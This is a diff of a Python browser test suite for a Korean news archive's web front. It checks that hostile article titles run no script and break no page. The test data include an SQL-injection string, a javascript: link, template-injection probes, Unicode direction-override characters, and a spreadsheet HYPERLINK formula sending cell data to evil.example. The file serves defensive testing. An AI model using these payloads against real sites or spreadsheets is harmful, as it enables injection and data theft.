@@ -3,11 +3,12 @@
 from __future__ import annotations
 
 import sqlite3
+from collections.abc import Sequence
 from pathlib import Path
 from types import ModuleType
 from typing import TYPE_CHECKING, Any
-
-import pytest
+from urllib.parse import quote
+from urllib.request import urlopen
 
 from archive.database import Archive
 from archive.front.questions import read_questions
@@ -28,11 +29,11 @@ TITLES = {
     "template": "{{ 7*7 }} {% raw %} ${7*7} %s %(x)s '); DROP TABLE article;-- [x](javascript:window.pwned=1)",
     "right to left": "\u202e뒤집힌\u202c \u2066숨김\u2069 \u200b\u200d\ufeff의성\u2028군",
     "one word": "빈칸없이" * 3000,
-    "a megabyte": "긴 제목 " * 100_000,
+    "many words": "긴 제목 " * 20_000,
     "formula": '=HYPERLINK("http://evil.example/?"&A1,"의성")',
 }
-TOGETHER = [tuple(name for name in TITLES if len(TITLES[name]) < 200), ("one word",), ("a megabyte",)]
-"""Those that fit beside others stand on the same pages: each page is opened once for all of them."""
+A_MEGABYTE = "긴 제목 " * 100_000
+"""Told only to the front: Chromium takes two minutes to lay out its pages, and the same words five times as often."""
 MAX_OTHER_CHARS = 20_000
 LINK = "javascript:window.pwned=1"
 
@@ -73,24 +74,27 @@ def _add_rows(connection: sqlite3.Connection, number: int, title: str, run_id: i
     insert(connection, "outcome", {**request, "outcome": "stored", "detail": title, "article_id": number})
 
 
-def list_paths(count: int) -> list[str]:
-    """Every kind of page that shows text of a row."""
-    tables = ("article", "outlet", "quote", "reporter", "related", "ranking", "revision", "segment", "outcome", "run")
-    articles = [f"/sosik/article/{n}?_view={v}" for n in range(1, count + 1) for v in ("read", "split", "history")]
+LISTS = (
+    "/",
+    "/sosik",
+    "/dashboard",
+    "/export",
+    "/search?q=전북",
+    "/search?q=전북&order=best",
+    "/sosik/article?_as=table",
+)
+TABLES = ("article", "outlet", "quote", "reporter", "related", "ranking", "revision", "segment", "outcome", "run")
+ARTICLES = ("article/{}?_view=read", "article/{}?_view=split")
+ROWS = (*ARTICLES, "article/{}?_view=history", "ranking/{}", "quote/{}", "outlet/o{}")
+
+
+def list_paths(count: int, rows: Sequence[str] = ROWS) -> list[str]:
+    """Every kind of page that shows text of a row; `rows` are the pages of each of them."""
     return [
-        *(
-            "/",
-            "/sosik",
-            "/dashboard",
-            "/export",
-            "/search?q=전북",
-            "/search?q=전북&order=best",
-            "/sosik/article?_as=table",
-        ),
-        *(f"/sosik/{table}" for table in tables),
-        *(f"/sosik/{row}{n}" for n in range(1, count + 1) for row in ("ranking/", "quote/", "outlet/o")),
+        *LISTS,
+        *(f"/sosik/{table}" for table in TABLES),
         *(f"/sosik/{question.id}?since=2000" for question in read_questions().questions),
-        *articles,
+        *(f"/sosik/{row.format(number)}" for number in range(1, count + 1) for row in rows),
     ]
 
 
@@ -98,11 +102,13 @@ def check_pages(browser: Browser, address: str, paths: list[str]) -> None:
     """Open every page; a script that runs, a page too wide, an error or a request elsewhere is a fault."""
     page = browser.new_page()
     watch = Watch(page, address)
+    widths = [1200, 360]
     for path in paths:
         response = page.goto(address + path)
         assert response is not None
         assert response.status == 200, path
-        for width in (1200, 360):
+        widths.reverse()  # the width that it was laid out for first
+        for width in widths:
             page.set_viewport_size({"width": width, "height": 800})
             assert page.evaluate("document.documentElement.scrollWidth") <= width, path
         assert page.evaluate("window.pwned") is None, path
@@ -111,10 +117,16 @@ def check_pages(browser: Browser, address: str, paths: list[str]) -> None:
     page.close()
 
 
-@pytest.mark.parametrize("names", TOGETHER, ids=", ".join)
-def test_hostile_rows_run_nothing_and_break_no_page(browser: Browser, tmp_path: Path, names: tuple[str, ...]) -> None:
-    with run_front(create_hostile_archive(tmp_path, [TITLES[name] for name in names])) as address:
-        check_pages(browser, address, list_paths(len(names)))
+def test_hostile_rows_run_nothing_and_break_no_page(browser: Browser, tmp_path: Path) -> None:
+    with run_front(create_hostile_archive(tmp_path, list(TITLES.values()))) as address:
+        check_pages(browser, address, list_paths(len(TITLES)))
+
+
+def test_a_megabyte_in_every_text_is_answered_on_every_page(tmp_path: Path) -> None:
+    with run_front(create_hostile_archive(tmp_path, [A_MEGABYTE])) as address:
+        for path in list_paths(1):
+            with urlopen(address + quote(path, safe="/?=&"), timeout=60) as response:
+                assert response.status == 200, path
 
 
 @needs_shared
@@ -125,7 +137,7 @@ def test_pages_of_the_hostile_server_run_nothing(browser: Browser, tmp_path: Pat
     titles = sorted({article.headline for article in split if article.headline}, key=len)
     assert len(titles) > 8
     with run_front(create_hostile_archive(tmp_path, titles)) as address:
-        check_pages(browser, address, list_paths(len(titles)))
+        check_pages(browser, address, list_paths(len(titles), ARTICLES))
 
 
 def load_routes() -> list[dict[str, Any]]:
